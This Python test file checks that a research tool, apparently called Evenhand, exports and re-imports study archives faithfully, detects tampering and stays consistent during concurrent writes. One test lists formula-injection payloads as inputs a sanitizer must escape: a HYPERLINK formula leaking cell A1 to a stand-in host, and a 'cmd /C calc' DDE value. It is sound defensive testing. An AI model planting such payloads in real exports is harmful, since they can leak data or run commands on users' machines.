"""A study's records out and in again: the same bytes, the same report, from any database, while collection goes on."""

import codecs
import csv
import hashlib
import io
import json
import re
import sys
import threading
import tracemalloc
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from evenhand.cli.main import app
from evenhand.errors import InvalidSettings, PackageMissing, Refused
from evenhand.exchange import archive, codebook, export
from evenhand.exchange.archive import Package
from evenhand.lab.lab import Lab
from evenhand.model import spreadsheets
from evenhand.model.study import Budget, Study, Text, reason_codes
from evenhand.model.task import TaskRecord, TaskSpec
from evenhand.model.trial import Measurement, Outcome
from evenhand.report import page
from evenhand.report import study as study_report
from evenhand.settings import Rules
from evenhand.web.access import Role
from tests.components import DATABASES
from tests.exported import bring, declared, renumbered, rich, table, texts, tune, write
from tests.labs import SPACE, Clock, claim, database, make_lab
from tests.test_bots import rehearsed
from tests.waiting import wait_for
from tests.web import serve


@pytest.fixture(params=DATABASES)
def url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    with database(request.param, tmp_path) as database_url:
        yield database_url


@pytest.fixture
def lab_and_clock(url: str) -> Iterator[tuple[Lab, Clock]]:
    lab, clock = make_lab(url)
    yield lab, clock
    lab.close()


@pytest.fixture
def second(tmp_path: Path) -> Iterator[Lab]:
    """Another laboratory, with a study of its own, so that ids differ."""
    (tmp_path / "second").mkdir()
    lab, _ = make_lab(f"sqlite:///{tmp_path / 'second' / 'lab.sqlite'}")
    other = declared(lab, "other")
    for _ in range(3):
        lab.participants.join(other.id)
    lab.start(lab.sessions.open(other.id, tuner="random").id)
    yield lab
    lab.close()


@pytest.mark.slow
@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_out_and_in_and_out_again_gives_the_same_bytes(
    lab_and_clock: tuple[Lab, Clock], second: Lab, tmp_path: Path, form: str
) -> None:
    lab = lab_and_clock[0]
    study = rich(*lab_and_clock)
    first = write(lab, study, tmp_path / "a.zip", form=form)
    again = write(lab, study, tmp_path / "b.zip", form=form)
    assert first.read_bytes() == again.read_bytes()
    brought = bring(second, first)
    assert write(second, brought, tmp_path / "c.zip", form=form).read_bytes() == first.read_bytes()
    assert archive.read(first) == renumbered(lab.studies.archive(study.id, "live"))
    assert archive.read(first) == renumbered(second.studies.archive(brought.id, "live"))
    assert write(lab, study, tmp_path / "folder", form=form).is_dir()
    assert archive.read(tmp_path / "folder") == archive.read(first)


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
        ("+49 30 1234", "'+49 30 1234"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-0.5", "-0.5"),
        ("-1.7 points to 2.7 points", "-1.7 points to 2.7 points"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("-0.175 to -0.139", "-0.175 to -0.139"),
        ("-A1", "'-A1"),
        ("-1*A1", "'-1*A1"),
        ("\r=1", "'\r=1"),
        ("+1e-3", "+1e-3"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_no_text_is_a_formula_in_a_spreadsheet(typed: str, shown: str) -> None:
    assert spreadsheets.without_formula(typed) == shown


@pytest.mark.slow
def test_the_form_for_spreadsheets_says_its_code_and_is_not_read_back(lab_and_clock: tuple[Lab, Clock], tmp_path: Path) -> None:
    lab, clock = lab_and_clock
    study = rich(lab, clock)
    exact, shown = (write(lab, study, tmp_path / f"{form}.zip", form=form) for form in ("csv", "spreadsheet"))
    with zipfile.ZipFile(exact) as first, zipfile.ZipFile(shown) as second:
        tables = [name for name in second.namelist() if name.endswith(".csv")]
        assert tables == [name for name in first.namelist() if name.endswith(".csv")]
        for name in tables:
            assert second.read(name).startswith(codecs.BOM_UTF8)
            exactly = [[spreadsheets.without_formula(text) for text in row] for row in rows_of(first, name)]
            assert rows_of(second, name) == exactly
        assert any(text.startswith("'=one") for row in rows_of(second, "answers.csv") for text in row)
    with pytest.raises(InvalidSettings, match="tables for spreadsheets, which are not read back; export the study as csv, too"):
        archive.read(shown)


def rows_of(folder: zipfile.ZipFile, name: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(folder.read(name).decode("utf-8-sig"), newline="")))


def test_a_session_that_was_extended_comes_back_with_its_earlier_choice(
    lab_and_clock: tuple[Lab, Clock], second: Lab, tmp_path: Path
) -> None:
    lab, clock = lab_and_clock
    study = declared(lab)
    agent, _ = lab.agents.add("a", 1)
    method = {"name": "random", "seed": 3}
    own = lab.sessions.open(study.id, tuner="random", method=method, budget=Budget(trials=1), driver="python", name="first")
    lab.start(own.id)
    for trials in (1, 2):
        if trials == 2:
            lab.sessions.leave(own.id)
            lab.sessions.take_up(own.id, Budget(trials=2))
        lab.submit(own.id, SPACE.configuration({"epochs": trials}))
        while (job := lab.claim(agent, session_id=own.id)) is not None:
            clock.now += 1
            lab.finish(job.job_id, job.attempt, Outcome.COMPLETED, None, [Measurement(0, 1, 1, 0.5, trials / 7, 1.0)])
            if job.kind == "trial":
                lab.choose(own.id, number=trials)
    lab.studies.close(study.id)
    path = write(lab, study, tmp_path / "a.zip")
    read = archive.read(path)
    (session,) = read.sessions
    assert (session.purpose, session.name) == ("exploratory", "first")
    assert [(entry.choice.trial_id, entry.choice.configuration) for entry in session.earlier_choices] == [
        (session.trials[0].id, session.trials[0].configuration)
    ]
    evaluation = read.evaluations[1]
    assert [[score.value for score in scores] for scores in (evaluation.scores, *evaluation.earlier)] == [
        [2 / 7] * 2,
        [1 / 7] * 2,
    ]
    assert read == renumbered(lab.studies.archive(study.id, "live"))
    brought = bring(second, path)
    assert read == renumbered(second.studies.archive(brought.id, "live"))
    assert second.sessions.called("first") is None  # an archive's name is nobody's here
    assert write(second, brought, tmp_path / "b.zip").read_bytes() == path.read_bytes()


# What is in it, and what is not


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Lab, Clock, Study, Path]]:
    folder = tmp_path_factory.mktemp("made")
    lab, clock = make_lab(f"sqlite:///{folder / 'lab.sqlite'}")
    study = rich(lab, clock)
    yield lab, clock, study, write(lab, study, folder / "a.zip")
    lab.close()


@pytest.mark.slow
def test_each_table_has_the_columns_of_the_codebook_and_each_row_its_version_hash_and_mode(made: tuple[Any, ...]) -> None:
    _, _, study, path = made
    for name, columns in codebook.TABLES.items():
        rows = table(path, name)
        assert rows, f"{name} is empty, so nothing of it is tested"
        assert list(rows[0]) == [column.name for column in columns]
        for row in rows:
            assert row["mode"] == "live"
            assert row["study_hash"] == made[0].studies.get(study.id, int(row["study_version"])).hash
    listed = list(csv.DictReader(io.StringIO(texts(path)["codebook.csv"])))
    assert [(row["table"], row["column"]) for row in listed] == [(t, c.name) for t, cs in codebook.TABLES.items() for c in cs]
    assert all(row["meaning"] and row["source"] for row in listed)


@pytest.mark.slow
def test_the_numbers_are_those_that_were_recorded(made: tuple[Any, ...]) -> None:
    path = made[3]
    people, sessions, trials = (table(path, name) for name in ("participants", "sessions", "trials"))
    assert [row["pseudonym"] for row in people] == ["P-01", "P-03", "P-04", "P-05"], "P-02 is a pilot"
    assert [row["participant"] for row in people] == ["1", "2", "3", "4"]
    assert [row["excluded"] for row in people] == ["", "was asleep", "", ""]
    assert [row["tuner"] for row in sessions] == ["P-01", "P-03", "P-04", "random"]
    assert [(row["session"], row["trial"]) for row in trials] == [
        ("1", "1"),
        ("1", "2"),
        ("2", "1"),
        ("2", "2"),
        ("4", "1"),
        ("4", "2"),
    ]
    assert [row["outcome"] for row in trials[:2]] == ["completed", "diverged"]
    assert [float(row["value"]) for row in trials[:2]] == [0.1, 1.1]
    rate = [row for row in table(path, "values") if row["hyperparameter"] == "learning_rate"]
    assert (rate[0]["value"], rate[0]["is_default"]) == ("0.30000000000000004", "false")
    assert (rate[0]["reason"], rate[0]["reason_label"]) == ("other", 'I "guess",\nso')
    assert (rate[1]["value"], rate[1]["is_default"]) == ("0.01", "true")
    assert (rate[1]["reason"], rate[1]["reason_label"]) == ("", "")
    scores = [row for row in table(path, "evaluations") if row["session"] == "1"]
    assert [(row["seed_index"], row["outcome"], float(row["value"])) for row in scores] == [
        (str(i), "completed", 0.1 / 3) for i in (0, 1)
    ]
    assert [row["session"] for row in table(path, "evaluations")] == ["1", "1", "2", "2", "4", "4"], "who withdrew has no scores"
    events = table(path, "events")
    assert [row["event"] for row in events] == [str(number) for number in range(1, len(events) + 1)]
    kinds = {row["kind"] for row in events}
    assert {"declared", "published", "invited", "joined", "submitted", "chose", "excluded", "withdrawn", "closed"} <= kinds


def test_answers_are_unrolled(made: tuple[Any, ...]) -> None:
    rows = [row for row in table(made[3], "answers") if row["participant"] == "1"]
    listed = [(row["question"], row["form"], row["row"], row["item"], row["answer"], row["number"]) for row in rows]
    assert ("many", "several", "", "1", "a", "") in listed
    assert ("many", "several", "", "2", "c", "") in listed
    assert ("none", "several", "", "0", "", "") in listed
    assert ("grid", "row", "y", "", "b", "") in listed
    assert ("grids", "row of several", "x", "2", "b", "") in listed
    assert ("grids", "row of several", "y", "0", "", "") in listed
    assert ("half", "one", "", "", "0.30000000000000004", "0.30000000000000004") in listed
    assert ("whole", "one", "", "", "7", "7.0") in listed
    assert ("digits", "one", "", "", "007", "") in listed


def test_names_addresses_and_tokens_stay_out_of_it(made: tuple[Any, ...]) -> None:
    everything = "".join(texts(made[3]).values())
    assert not [word for word in ("Zoe", "secret", "/home/someone", "resume_hash", "nickname") if word in everything]


@pytest.mark.slow
def test_test_scores_follow_the_rule_of_the_archive(tmp_path: Path) -> None:
    lab, clock = make_lab(f"sqlite:///{tmp_path / 'lab.sqlite'}")
    study = rich(lab, clock)
    lab.studies.reopen(study.id)
    with pytest.raises(Refused, match="still collecting"):
        write(lab, study, tmp_path / "a.zip")
    assert not (tmp_path / "a.zip").exists()
    path = write(lab, study, tmp_path / "b.zip", evaluations=False)
    exported = archive.read(path)
    assert exported.evaluations == {}
    assert len(exported.sessions) == 4
    sessions = [session.id for session in lab.sessions.of_study(study.id) if session.mode == "live"]
    assert not any(lab.evaluations.looks(session_id) for session_id in sessions)
    lab.studies.close(study.id)
    write(lab, study, tmp_path / "c.zip")
    looked = [len(lab.evaluations.looks(session_id)) for session_id in sessions]
    assert sorted(looked) == [0, 1, 1, 1], "each session with an evaluation was looked at once; the one who withdrew has none"
    lab.close()


def test_parquet_without_its_package_is_refused_and_says_what_to_do(
    made: tuple[Any, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lab, _, study, _ = made
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(PackageMissing, match=r"pip install 'evenhand\[report\]'"):
        write(lab, study, tmp_path / "a.zip", form="parquet")
    with pytest.raises(InvalidSettings, match="'xlsx': expected one of csv, jsonl, parquet"):
        write(lab, study, tmp_path / "a.zip", form="xlsx")


# Damage


def spoilt(path: Path, to: Path, name: str, change: Any, honest: bool) -> Path:
    """The archive with one file changed (None: left out); `honest`: the manifest says so, as a clumsy editor's might."""
    files: dict[str, str | None] = dict(texts(path))
    files[name] = change(files[name])
    if honest:
        manifest = json.loads(files["manifest.json"] or "")
        manifest["sha256"][name] = hashlib.sha256((files[name] or "").encode()).hexdigest()
        files["manifest.json"] = json.dumps(manifest)
    with zipfile.ZipFile(to, "w") as target:
        for file, content in files.items():
            if content is not None:
                target.writestr(file, content)
    return to


@pytest.mark.parametrize("name", [codebook.STUDY, codebook.CODEBOOK, *(f"{table}.csv" for table in codebook.TABLES)])
def test_a_file_that_was_edited_or_is_missing_is_refused_by_name(made: tuple[Any, ...], tmp_path: Path, name: str) -> None:
    edited = spoilt(made[3], tmp_path / "a.zip", name, lambda text: text + " ", honest=False)
    with pytest.raises(InvalidSettings, match=rf"{re.escape(name)} is not what the manifest says"):
        archive.read(edited)
    with pytest.raises(InvalidSettings, match=rf"{re.escape(name)} is missing"):
        archive.read(spoilt(made[3], tmp_path / "b.zip", name, lambda text: None, honest=False))


@pytest.mark.parametrize(
    ("name", "old", "new", "why"),
    [
        ("trials.csv", "submitted_at", "sent", "trials.csv: column 'submitted_at' is missing"),
        ("trials.csv", "1,1,P-01,", "1,one,P-01,", "trials.csv, row 1: trial is 'one'; expected a value .integer"),
        ("trials.csv", "1,2,P-01,", "1,1,P-01,", "trials.csv, row 2: cannot be understood .trial 1 of session 1 a second time"),
        ("trials.csv", "diverged", "exploded", "trials.csv, row 2: cannot be understood .'exploded'"),
        ("sessions.csv", "\r\n1,1,P-01", "\r\n,1,P-01", "sessions.csv, row 1: session is empty"),
        ("sessions.csv", "\r\n1,1,P-01", "\r\n1,77,P-01", "participant 77 is none of the participants"),
        ("participants.csv", "\r\n1,P-01,", "\r\n1,", "participants.csv, row 1: 15 fields, expected 16"),
        ("trials.csv", ",live", ",pilot", "trials.csv, row 1: cannot be understood .mode 'pilot' in an archive of live records"),
        ("answers.csv", ",2,", ",3,", "answers.csv, row .*study.json has no version 3"),
        ("study.json", '"metric": "accuracy"', '"metric": 3', "study.json: cannot be understood .*metric"),
        ("study.json", "{", "", "study.json: not JSON"),
        ("manifest.json", '"format": 6', '"format": 7', "manifest.json: format 7, expected 2 to 6; read it with Evenhand"),
    ],
)  # fmt: skip
def test_what_cannot_be_is_refused_with_file_and_reason(
    made: tuple[Any, ...], tmp_path: Path, name: str, old: str, new: str, why: str
) -> None:
    assert old in texts(made[3])[name]
    path = spoilt(made[3], tmp_path / "a.zip", name, lambda text: text.replace(old, new, 1), honest=name != "manifest.json")
    with pytest.raises(InvalidSettings, match=why):
        archive.read(path)


def test_a_reason_is_the_code_that_the_codebook_names() -> None:
    study = Study("toy", "Toy", 1, Budget(trials=20), 7, Text(""), Text(""), Text(""))
    codes = reason_codes(study.reasons)
    assert {option.label.markdown: option.value for option in study.reasons}.items() <= codes.items()
    assert set(codes.values()) == {"guess", "default", "experience", "learnt", "other"}
    assert "other: my own words" not in codes  # such words are exported as `other`, with themselves beside it


def test_what_is_no_archive_is_refused(tmp_path: Path) -> None:
    (tmp_path / "a.zip").write_text("hello")
    (tmp_path / "folder").mkdir()
    for name, why in (("a.zip", "not an archive"), ("none.zip", "not an archive"), ("folder", "manifest.json is missing")):
        with pytest.raises(InvalidSettings, match=why):
            archive.read(tmp_path / name)


# While collection goes on


@pytest.mark.slow
def test_an_export_holds_up_no_write_and_is_of_one_piece(lab_and_clock: tuple[Lab, Clock], tmp_path: Path) -> None:
    lab, clock = lab_and_clock
    study = declared(lab)
    agent, _ = lab.agents.add("a", 4)
    for number in range(3):
        person, _ = lab.participants.join(study.id)
        lab.participants.answer(person.id, "background", {"months": number})
        tune(lab, clock, lab.participants.begin(person.id).id, agent, 0.5)
    running = lab.participants.begin(lab.participants.join(study.id)[0].id)
    lab.submit(running.id, SPACE.configuration({"epochs": 9}))
    job = claim(lab, agent)
    lab.measure(job.job_id, 1, [Measurement(0, 5, None, 1.0, None, 0.5), Measurement(1, 10, 1, 1.0, 0.3, 1.0)])
    made = export.Export(lab, study.id, "live", who="researcher", evaluations=False)
    for index, (name, blocks) in enumerate(made.files(), 2):
        with zipfile.ZipFile(tmp_path / "a.zip", "a") as target:
            target.writestr(name, b"".join(blocks))
        # Between any two files: the training goes on, somebody joins and answers, somebody else withdraws.
        lab.measure(job.job_id, 1, [Measurement(index, 10 * index, index, 1.0, 0.3 + index / 100, float(index))])
        newcomer, _ = lab.participants.join(study.id)
        lab.participants.answer(newcomer.id, "background", {"months": 9})
        if name == "study.json":
            lab.participants.withdraw(lab.participants.of_study(study.id)[0].id)
    package = Package(tmp_path / "a.zip")
    assert len(package.archive.participants) == 4
    assert package.archive.sessions[3].trials[0].value == 0.3
    assert package.archive.participants[0].answers == {"background.months": 0}, "each participant's rows are of one moment"
    measured = list(package.measurements())
    last = package.archive.sessions[3].trials[0].id
    assert [measurement.index for trial, measurement in measured if trial == last] == [0, 1], (
        "what came later belongs to the next export"
    )
    assert lab.transfer.bring_in(
        package.archive, tasks=package.tasks, measurements=measured, events=package.events(), name="copy"
    ).archived


@pytest.mark.slow
def test_writes_of_another_thread_go_on_while_an_export_runs(url: str, tmp_path: Path) -> None:
    lab, clock = make_lab(url)
    study = rich(lab, clock)
    done, written = threading.Event(), list[str]()

    def collect() -> None:
        while not done.is_set():
            written.append(lab.tokens.issue("researcher"))

    thread = threading.Thread(target=collect)
    thread.start()
    try:
        paths = [write(lab, study, tmp_path / f"{number}.zip") for number in range(5)]
        made = export.Export(lab, study.id, "live", who="researcher", evaluations=False)
        for name, blocks in made.files():
            for number, _ in enumerate(blocks):  # between any two blocks
                before = len(written)
                wait_for(lambda: len(written), f"a write while block {number} of {name} is out", before.__lt__)
    finally:
        done.set()
        thread.join()
    assert len({path.read_bytes() for path in paths}) == 1
    lab.close()


@pytest.mark.slow
def test_memory_stays_flat(tmp_path: Path) -> None:
    lab, _ = make_lab(f"sqlite:///{tmp_path / 'lab.sqlite'}", Rules(curve_points=10**6))
    study = declared(lab)
    agent, _ = lab.agents.add("a", 1)
    session = lab.start(lab.sessions.open(study.id, tuner="random").id)
    lab.submit(session.id, SPACE.configuration({"epochs": 1}))
    job = claim(lab, agent)
    peaks = []
    for start in (0, 10_000, 20_000, 30_000):
        lab.measure(job.job_id, 1, [Measurement(start + i, start + i, None, i / 7, None, i / 3) for i in range(10_000)])
        tracemalloc.start()
        write(lab, study, tmp_path / "a.zip", evaluations=False)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert archive.read(tmp_path / "a.zip").sessions[0].trials[0].epochs_begun == 1
    assert len(table(tmp_path / "a.zip", "measurements")) == 40_000
    assert peaks[-1] < 1.2 * peaks[1], f"peaks in bytes: {peaks}"
    lab.close()


# A study that was brought in


def test_nothing_moves_in_a_study_that_was_brought_in(lab_and_clock: tuple[Lab, Clock], tmp_path: Path) -> None:
    lab, clock = lab_and_clock
    study = declared(lab)
    agent, _ = lab.agents.add("a", 1)
    open_session = lab.participants.begin(lab.participants.join(study.id)[0].id)
    lab.submit(open_session.id, SPACE.configuration({"epochs": 2}))
    claim(lab, agent)
    method = lab.start(lab.sessions.open(study.id, tuner="random").id)
    lab.submit(method.id, SPACE.configuration({"epochs": 2}))
    first = write(lab, study, tmp_path / "a.zip", evaluations=False)
    for session in lab.sessions.of_study(study.id):
        lab.stop(session.id, 1)
        lab.participants.withdraw(session.participant_id) if session.participant_id else lab.choose(session.id)
    brought = bring(lab, first, "copy")
    assert (brought.archived, brought.name, brought.hash) == (True, "copy", study.hash)
    clock.now += 10_000
    lab.sweep()
    lab.recover(clock.now - 5000)
    assert lab.claim(agent) is None
    assert lab.sessions.running() == ([], {})
    assert lab.sessions.to_play("server") == [method.id] or lab.sessions.to_play("server") == []
    for verb in (
        lambda: lab.participants.join(brought.id),
        lambda: lab.sessions.open(brought.id, tuner="random"),
        lambda: lab.participants.invite(brought.id, "x"),
        lambda: lab.studies.reopen(brought.id),
        lambda: lab.studies.declare(replace(brought, title="Other")),
    ):
        with pytest.raises(Refused, match="archive"):
            verb()
    assert lab.studies.close(brought.id).closed_at is None
    second = write(lab, brought, tmp_path / "b.zip", evaluations=False)
    assert without_manifest(second) == {
        name: text.replace('"name": "rich"', '"name": "copy"') for name, text in without_manifest(first).items()
    }
    with pytest.raises(Refused, match="named 'copy' is here already; bring the archive in under another name"):
        bring(lab, first, "copy")


def without_manifest(path: Path) -> dict[str, str]:
    return {name: text for name, text in texts(path).items() if name != codebook.MANIFEST}


def test_its_evaluations_can_be_looked_at(made: tuple[Any, ...], second: Lab) -> None:
    brought = bring(second, made[3])
    session = next(session for session in second.sessions.of_study(brought.id) if session.tuner == "P-01")
    second.evaluations.reveal(session.id, "researcher")
    assert [score.value for score in second.evaluations.get(session.id, "researcher").scores] == [0.1 / 3, 0.1 / 3]
    assert second.view(session.id).session.trials[0].reasons == {"learning_rate": 'I "guess",\nso'}


def test_an_import_that_fails_leaves_nothing(made: tuple[Any, ...], second: Lab, tmp_path: Path) -> None:
    before = [study.name for study in second.studies.all()]
    events = len(second.sessions.events())
    broken = spoilt(made[3], tmp_path / "a.zip", "events.csv", lambda text: text[:-2] + "x\r\n", honest=True)
    with pytest.raises(InvalidSettings, match=r"events\.csv, row"):
        bring(second, broken)
    assert [study.name for study in second.studies.all()] == before
    assert len(second.sessions.events()) == events
    assert bring(second, made[3]).name == "rich"


def test_a_task_read_from_an_archive_is_found_again_where_it_lies(made: tuple[Any, ...], tmp_path: Path) -> None:
    lab, _ = make_lab(f"sqlite:///{tmp_path / 'lab.sqlite'}")
    brought = bring(lab, made[3])
    assert lab.studies.task_of(brought.id).spec.name == "toy.py:train"
    known = lab.studies.add_task(TaskRecord(TaskSpec("/elsewhere/toy.py:train"), "v1", SPACE, "accuracy", "maximize", 10))
    assert (known.id, known.spec.name) == (lab.studies.task_of(brought.id).id, "/elsewhere/toy.py:train")
    lab.close()


# The commands, the page, the documentation


@pytest.mark.slow
def test_by_command_out_and_in_and_reported(made: tuple[Any, ...], tmp_path: Path) -> None:
    path = made[3]
    source, target = f"sqlite:///{path.parent / 'lab.sqlite'}", f"sqlite:///{tmp_path / 'other.sqlite'}"
    out, again = tmp_path / "out", tmp_path / "again.zip"

    def run(*command: str) -> str:
        result = CliRunner().invoke(app, ["study", *command])
        assert result.exit_code == 0, result.output
        return result.output

    assert "6 trials" in run("export", "rich", "--out", str(out), "--db", source)
    assert {path.name for path in out.iterdir()} == set(texts(path))
    assert "an archive: 4 participants, 4 sessions (live)" in run("import", str(out), "--db", target)
    run("export", "rich", "--out", str(again), "--db", target)
    assert again.read_bytes() == path.read_bytes()
    assert "archive" in run("list", "--db", target)
    refused = CliRunner().invoke(app, ["study", "import", str(out), "--db", target])
    assert refused.exit_code == 1
    assert "here already" in str(refused.exception)
    wrong = CliRunner().invoke(app, ["study", "report", str(again), "--mode", "pilot", "--out", str(tmp_path / "r.html")])
    assert wrong.exit_code == 1
    assert "holds live records" in str(wrong.exception)


@pytest.mark.slow
def test_the_page_sends_the_archive(tmp_path: Path) -> None:
    lab, clock = make_lab(f"sqlite:///{tmp_path / 'lab.sqlite'}")
    study = rich(lab, clock)
    with serve(lab, clock, tmp_path) as site:
        caller = site.caller(Role.RESEARCHER)
        caller.post(f"/studies/{study.id}/look", {"then": "export"})
        answer = caller.get(f"/studies/{study.id}/export?mode=live&format=jsonl")
        assert answer.status_code == 200
        assert re.fullmatch(r'attachment; filename="rich-live-\d{4}-\d\d-\d\d\.zip"', answer.headers["content-disposition"])
        (tmp_path / "page.zip").write_bytes(answer.content)
        assert archive.read(tmp_path / "page.zip") == renumbered(lab.studies.archive(study.id, "live"))
        assert write(lab, study, tmp_path / "a.zip", form="jsonl").read_bytes() == answer.content
        assert caller.get(f"/studies/{study.id}/export?format=xlsx").status_code == 400
        brought = bring(lab, tmp_path / "page.zip", "copy")
        for path in (f"/studies/{brought.id}", f"/studies/{brought.id}/versions", f"/studies/{brought.id}/log"):
            assert caller.get(path).status_code == 200
        assert "read from an export" in caller.get(f"/studies/{brought.id}").text
    lab.close()


@pytest.mark.slow
def test_the_page_leaves_hidden_scores_out_by_itself(tmp_path: Path) -> None:
    lab, clock = make_lab(f"sqlite:///{tmp_path / 'lab.sqlite'}")
    study = rich(lab, clock)
    lab.studies.reopen(study.id)
    with serve(lab, clock, tmp_path) as site:
        caller = site.caller(Role.RESEARCHER)
        answer = caller.get(f"/studies/{study.id}/export")
        assert "rich-live-without-evaluations-" in answer.headers["content-disposition"]
        (tmp_path / "page.zip").write_bytes(answer.content)
        assert archive.read(tmp_path / "page.zip").evaluations == {}
        refused = caller.get(f"/studies/{study.id}/export?evaluations=true")
        assert refused.status_code == 409
        assert "still collecting" in refused.text
        caller.post(f"/studies/{study.id}/look", {"then": "export", "mode": "pilot"})
        pilot = caller.get(f"/studies/{study.id}/export?mode=pilot")
        (tmp_path / "pilot.zip").write_bytes(pilot.content)
        assert len(archive.read(tmp_path / "pilot.zip").evaluations) == 1
    lab.close()


def test_the_documentation_holds_the_codebook() -> None:
    text = (Path(__file__).parent.parent / "docs" / "data.md").read_text(encoding="utf-8")
    assert text.endswith(codebook.as_markdown()), "write codebook.as_markdown() after 'The tables' in docs/data.md"


@pytest.mark.slow
def test_a_rehearsal_gives_the_same_report_from_its_archive_and_where_it_was_brought_in(
    tmp_path: Path, second: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    lab, study, _ = rehearsed(tmp_path / "rehearsal", monkeypatch, participants=5, trials=2, random=3, seed=3)
    path = write(lab, study, tmp_path / "a.zip", "simulated")
    brought = bring(second, path)
    assert write(second, brought, tmp_path / "b.zip", "simulated").read_bytes() == path.read_bytes()
    records = lab.studies.archive(study.id, "simulated"), archive.read(path), second.studies.archive(brought.id, "simulated")
    assert records[1] == renumbered(records[0]) == renumbered(records[2])
    assert len({page.html(study_report.build(record, "simulated"), "today") for record in records}) == 1
    lab.close()
